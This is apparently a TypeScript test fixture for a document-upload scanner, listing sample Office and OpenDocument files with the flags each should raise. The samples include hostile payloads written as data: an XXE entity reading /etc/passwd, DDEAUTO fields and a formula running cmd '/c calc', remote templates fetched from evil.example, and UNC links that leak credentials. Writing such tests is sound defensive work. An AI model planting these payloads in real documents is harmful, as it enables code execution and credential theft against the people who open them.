import { compoundBytes, workbookStream } from './compound-bytes.ts';
import type { HostileFile } from './hostile-file.ts';
import {
  body,
  documentOf,
  office,
  openDocument,
  relationship,
  relationships,
  sheet,
  type OfficeOptions,
} from './office-bytes.ts';
import type { Part } from './zip-bytes.ts';

const docx = (...parts: readonly Part[]): Buffer => office('docx', { parts });
const xlsx = (...parts: readonly Part[]): Buffer => office('xlsx', { parts });
const tied = (...all: readonly string[]): Part => ({
  name: 'word/_rels/document.xml.rels',
  data: relationships(...all),
});
const document = (xml: string): Part => ({ name: 'word/document.xml', data: xml });
const macroType = (main: string): OfficeOptions => ({
  mainType: `application/vnd.ms-${main}.macroEnabled.main+xml`,
});
const run = (xml: string): string => `<w:r>${xml}</w:r>`;
const field = (...instructions: readonly string[]): string =>
  documentOf(
    `<w:p>${run('<w:fldChar w:fldCharType="begin"/>')}${instructions.map((text) => run(text)).join('')}${run('<w:fldChar w:fldCharType="separate"/>')}${run('<w:t>1</w:t>')}${run('<w:fldChar w:fldCharType="end"/>')}</w:p>`,
  );
const instruction = (text: string): string => `<w:instrText>${text}</w:instrText>`;
const DOCTYPE = '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>';
const packaged = compoundBytes([{ name: '\x01Ole10Native', data: Buffer.from('evil.exe') }]);

/** Office and OpenDocument files that run, fetch or hide something; and harmless ones that look as if. */
export const HOSTILE_OFFICE: readonly HostileFile[] = [
  { title: 'a Word file', name: 'bao-cao.docx', bytes: () => office('docx'), expect: [] },
  { title: 'an Excel file', name: 'so-lieu.xlsx', bytes: () => office('xlsx'), expect: [] },
  { title: 'slides', name: 'trinh-chieu.pptx', bytes: () => office('pptx'), expect: [] },
  { title: 'an OpenDocument text', name: 'ke-hoach.odt', bytes: () => openDocument('odt'), expect: [] },
  { title: 'an OpenDocument sheet', name: 'bang.ods', bytes: () => openDocument('ods'), expect: [] },
  { title: 'OpenDocument slides', name: 'trang.odp', bytes: () => openDocument('odp'), expect: [] },
  {
    title: 'macros renamed to .docx',
    name: 'macro.docx',
    bytes: () =>
      office('docx', { ...macroType('word.document'), parts: [{ name: 'word/vbaProject.bin', data: 'x' }] }),
    expect: ['macros'],
  },
  {
    title: 'macros that the list of types leaves out',
    name: 'macro-an.xlsx',
    bytes: () => xlsx({ name: 'xl/VBAproject.bin', data: 'x' }),
    expect: ['macros'],
  },
  {
    title: 'macros under another name, told by the relationship',
    name: 'macro-doi-ten.docx',
    bytes: () => docx(tied(relationship('vbaProject', 'media/image1.png', false))),
    expect: ['macros'],
  },
  {
    title: 'a macro sheet of Excel 4',
    name: 'macro-4.xlsx',
    bytes: () => xlsx({ name: 'xl/macrosheets/sheet1.xml', data: '<xm:macrosheet/>' }),
    expect: ['macros'],
  },
  {
    title: 'a Word file named .docm',
    name: 'bao-cao.docm',
    bytes: () => office('docx'),
    expect: ['dangerous-extension'],
  },
  {
    title: 'a binary workbook',
    name: 'nhi-phan.xlsx',
    bytes: () => office('xlsx', { mainType: 'application/vnd.ms-excel.sheet.binary.macroEnabled.main' }),
    expect: ['kind-not-accepted'],
  },
  {
    title: 'an external entity',
    name: 'xxe.docx',
    bytes: () => docx(document(`${DOCTYPE}<w:document>&x;</w:document>`)),
    expect: ['xml-doctype'],
  },
  {
    title: 'entities that multiply',
    name: 'cuoi.xlsx',
    bytes: () =>
      xlsx({
        name: 'xl/sharedStrings.xml',
        data: '<!DOCTYPE s [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><sst>&b;</sst>',
      }),
    expect: ['xml-doctype'],
  },
  {
    title: 'an external entity in UTF-16',
    name: 'xxe-16.docx',
    bytes: () =>
      docx(document(''), { name: 'word/a.xml', data: Buffer.from(`\ufeff${DOCTYPE}<a/>`, 'utf16le') }),
    expect: ['xml-doctype'],
  },
  {
    title: 'XML in an encoding that hides tags',
    name: 'utf-7.docx',
    bytes: () => docx(document('<?xml version="1.0" encoding="UTF-7"?><w:document/>')),
    expect: ['xml-damaged'],
  },
  {
    title: 'elements nested 100 000 deep',
    name: 'sau.docx',
    bytes: () => docx(document('<a>'.repeat(100_000))),
    expect: ['xml-damaged'],
  },
  {
    title: 'a document cut in the middle',
    name: 'nua.docx',
    bytes: () => docx(document(body('x').slice(0, -20))),
    expect: ['xml-damaged'],
  },
  {
    title: 'a template from the web',
    name: 'mau-web.docx',
    bytes: () => docx(tied(relationship('attachedTemplate', 'https://evil.example/t.dotm'))),
    expect: ['remote-content'],
  },
  {
    title: 'a template of the author',
    name: 'mau-may.docx',
    bytes: () => docx(tied(relationship('attachedTemplate', 'file:///C:\\Users\\an\\Mau.dotx'))),
    expect: [],
  },
  {
    title: 'a picture on a share, which takes the password along',
    name: 'anh-share.docx',
    bytes: () => docx(tied(relationship('image', 'file:///\\\\10.0.0.1\\a.png'))),
    expect: ['remote-content'],
  },
  {
    title: 'a picture on the web',
    name: 'anh-web.docx',
    bytes: () => docx(tied(relationship('image', 'https://example.vn/a.png'))),
    expect: ['external-content'],
  },
  {
    title: 'an object fetched from the web',
    name: 'doi-tuong-web.docx',
    bytes: () => docx(tied(relationship('oleObject', 'https://evil.example/a.html'))),
    expect: ['remote-content'],
  },
  {
    title: 'ordinary links to web pages',
    name: 'lien-ket-web.docx',
    bytes: () => docx(tied(relationship('hyperlink', 'https://chinhphu.vn'))),
    expect: [],
  },
  {
    title: 'a field that starts a program (DDEAUTO)',
    name: 'dde.docx',
    bytes: () => docx(document(field(instruction(' DDEAUTO c:\\\\windows\\\\cmd.exe "/c calc" ')))),
    expect: ['dde'],
  },
  {
    title: 'the same, spread over three runs',
    name: 'dde-chia.docx',
    bytes: () =>
      docx(document(field(instruction('D'), instruction('DE'), instruction('AUTO cmd "/c calc"')))),
    expect: ['dde'],
  },
  {
    title: 'the same, spelt by numbers',
    name: 'dde-so.docx',
    bytes: () =>
      docx(
        document(
          field(
            '<w:fldChar w:fldCharType="begin"/>',
            instruction(' QUOTE 68 68 69 65 85 84 79 '),
            '<w:fldChar w:fldCharType="end"/>',
            instruction(' cmd "/c calc"'),
          ),
        ),
      ),
    expect: ['dde'],
  },
  {
    title: 'a simple field that starts a program',
    name: 'dde-don.docx',
    bytes: () => docx(document(documentOf('<w:fldSimple w:instr="DDE excel a b"/>'))),
    expect: ['dde'],
  },
  {
    title: 'a page number and a date as fields',
    name: 'so-trang.docx',
    bytes: () => docx(document(field(instruction(' PAGE ')))),
    expect: [],
  },
  {
    title: 'a picture fetched by a field from a share',
    name: 'truong-anh.docx',
    bytes: () => docx(document(field(instruction(' INCLUDEPICTURE "\\\\\\\\10.0.0.1\\\\a.png" ')))),
    expect: ['remote-content'],
  },
  {
    title: 'a workbook linked by DDE',
    name: 'dde.xlsx',
    bytes: () =>
      xlsx({
        name: 'xl/externalLinks/externalLink1.xml',
        data: '<externalLink><ddeLink ddeService="cmd"/></externalLink>',
      }),
    expect: ['dde'],
  },
  {
    title: 'a formula that starts a program',
    name: 'cong-thuc.xlsx',
    bytes: () =>
      xlsx({
        name: 'xl/worksheets/sheet1.xml',
        data: sheet('<c r="A1"><f>cmd|\'/c calc\'!A0</f><v>1</v></c>'),
      }),
    expect: ['dde'],
  },
  {
    title: 'a formula with a bar in its text',
    name: 'gach-dung.xlsx',
    bytes: () =>
      xlsx({
        name: 'xl/worksheets/sheet1.xml',
        data: sheet('<c r="A1"><f>Sheet2!A1&amp;"a|b!c"</f><v>1</v></c>'),
      }),
    expect: [],
  },
  {
    title: 'a workbook linked to another one',
    name: 'lien-ket-so.xlsx',
    bytes: () =>
      xlsx({
        name: 'xl/externalLinks/_rels/externalLink1.xml.rels',
        data: relationships(relationship('externalLinkPath', 'SoLieu2024.xlsx')),
      }),
    expect: ['external-link'],
  },
  {
    title: 'a program wrapped as an object',
    name: 'goi.docx',
    bytes: () => docx({ name: 'word/embeddings/oleObject1.bin', data: packaged }),
    expect: ['embedded-file', 'embedded-object'],
  },
  {
    title: 'an old workbook with macros as an object',
    name: 'doi-tuong-macro.docx',
    bytes: () =>
      docx({
        name: 'word/embeddings/oleObject1.bin',
        data: compoundBytes([{ name: 'Workbook', data: workbookStream() }, { name: '_VBA_PROJECT_CUR' }]),
      }),
    expect: ['macros', 'embedded-object'],
  },
  {
    title: 'an equation',
    name: 'cong-thuc.docx',
    bytes: () =>
      docx({
        name: 'word/embeddings/oleObject1.bin',
        data: compoundBytes([{ name: 'Equation Native', data: Buffer.alloc(200) }]),
      }),
    expect: ['embedded-object'],
  },
  {
    title: 'the data of a chart',
    name: 'bieu-do.docx',
    bytes: () => docx({ name: 'word/embeddings/Microsoft_Excel_Worksheet.xlsx', data: office('xlsx') }),
    expect: [],
  },
  {
    title: 'a whole document as an object in an object',
    name: 'tai-lieu-trong.docx',
    bytes: () =>
      docx({
        name: 'word/embeddings/oleObject1.bin',
        data: compoundBytes([{ name: 'Package', data: office('docx') }]),
      }),
    expect: ['embedded-object'],
  },
  {
    title: 'a document with macros inside a document',
    name: 'macro-trong.docx',
    bytes: () =>
      docx({
        name: 'word/embeddings/a.docx',
        data: docx({ name: 'word/vbaProject.bin', data: 'x' }),
      }),
    expect: ['macros', 'embedded-object'],
  },
  {
    title: 'a program among the pictures',
    name: 'exe-trong.docx',
    bytes: () => docx({ name: 'word/media/image1.png', data: Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1') }),
    expect: ['executable'],
  },
  {
    title: 'a PDF among the parts',
    name: 'pdf-trong.docx',
    bytes: () => docx({ name: 'word/embeddings/a.bin', data: '%PDF-1.7' }),
    expect: ['embedded-file'],
  },
  {
    title: 'a page to be shown in the place of the text',
    name: 'alt-chunk.docx',
    bytes: () =>
      docx(tied(relationship('aFChunk', 'a.htm', false)), {
        name: 'word/a.htm',
        data: '<html><script>1</script></html>',
      }),
    expect: ['embedded-file', 'active-content'],
  },
  {
    title: 'ActiveX controls',
    name: 'active-x.docx',
    bytes: () => docx({ name: 'word/activeX/activeX1.xml', data: '<ax:ocx/>' }),
    expect: ['active-x'],
  },
  {
    title: 'a click on a slide that starts a program',
    name: 'bam.pptx',
    bytes: () =>
      office('pptx', {
        parts: [
          {
            name: 'ppt/slides/slide1.xml',
            data: '<p:sld><a:hlinkClick r:id="r" action="ppaction://program"/></p:sld>',
          },
        ],
      }),
    expect: ['launches-program'],
  },
  {
    title: 'a Word file with a password',
    name: 'mat-khau.docx',
    bytes: () =>
      compoundBytes([{ name: 'EncryptionInfo' }, { name: 'EncryptedPackage', data: Buffer.alloc(5000) }]),
    expect: ['encrypted'],
  },
  {
    title: 'a page named .docx',
    name: 'trang-web.docx',
    bytes: () => Buffer.from('<!-- xuất từ phần mềm -->\n<html><body onload="alert(1)">'),
    expect: ['active-content'],
  },
  {
    title: 'a mail with a page named .doc',
    name: 'trang-web.doc',
    bytes: () => Buffer.from('MIME-Version: 1.0\nContent-Type: multipart/related; boundary="x"\n\n--x\n'),
    expect: ['active-content'],
  },
  {
    title: 'no main part',
    name: 'rong.docx',
    bytes: () => office('docx', { mainType: 'application/xml' }),
    expect: ['kind-not-accepted'],
  },
  {
    title: 'OpenDocument macros',
    name: 'macro.odt',
    bytes: () =>
      openDocument('odt', '', { parts: [{ name: 'Basic/Standard/Module1.xml', data: '<script:module/>' }] }),
    expect: ['macros'],
  },
  {
    title: 'OpenDocument with an empty list of macros',
    name: 'danh-sach-rong.odt',
    bytes: () =>
      openDocument('odt', '', {
        parts: [{ name: 'Basic/Standard/script-lb.xml', data: '<library:library/>' }],
      }),
    expect: [],
  },
  {
    title: 'OpenDocument that calls a macro when opened',
    name: 'goi-macro.odt',
    bytes: () =>
      openDocument('odt', '<script:event-listener xlink:href="vnd.sun.star.script:a?language=Basic"/>'),
    expect: ['macros'],
  },
  {
    title: 'OpenDocument with a password',
    name: 'mat-khau.odt',
    bytes: () =>
      openDocument('odt', '', {
        manifest: '<manifest:file-entry><manifest:encryption-data/></manifest:file-entry>',
      }),
    expect: ['encrypted'],
  },
  {
    title: 'an OpenDocument sheet linked by DDE',
    name: 'dde.ods',
    bytes: () => openDocument('ods', '<table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;1;2)"/>'),
    expect: ['dde'],
  },
  {
    title: 'an OpenDocument text with a part from a share',
    name: 'muc-share.odt',
    bytes: () => openDocument('odt', '<text:section-source xlink:href="file://10.0.0.1/a.odt"/>'),
    expect: ['remote-content'],
  },
  {
    title: 'EICAR inside a Word file: the virus scanner answers for it',
    name: 'eicar.docx',
    bytes: () => docx({ name: 'word/media/eicar.txt', data: 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-' }),
    expect: [],
  },
  {
    title: 'a mark of secrecy in the header',
    name: 'mat.docx',
    bytes: () => docx({ name: 'word/header1.xml', data: body('TỐI MẬT') }),
    expect: ['state-secret-mark'],
  },
  {
    title: 'a register with a column of secrecy',
    name: 'so-cong-van.ods',
    bytes: () =>
      openDocument(
        'ods',
        `<table:table><table:table-row>${['12/BC', 'Mật'].map((text) => `<table:table-cell><text:p>${text}</text:p></table:table-cell>`).join('')}</table:table-row></table:table>`,
      ),
    expect: [],
  },
  {
    title: 'the word secret inside a sentence',
    name: 'khong-mat.docx',
    bytes: () => docx(document(body('Công tác bảo vệ bí mật nhà nước, tài liệu mật'))),
    expect: [],
  },
];
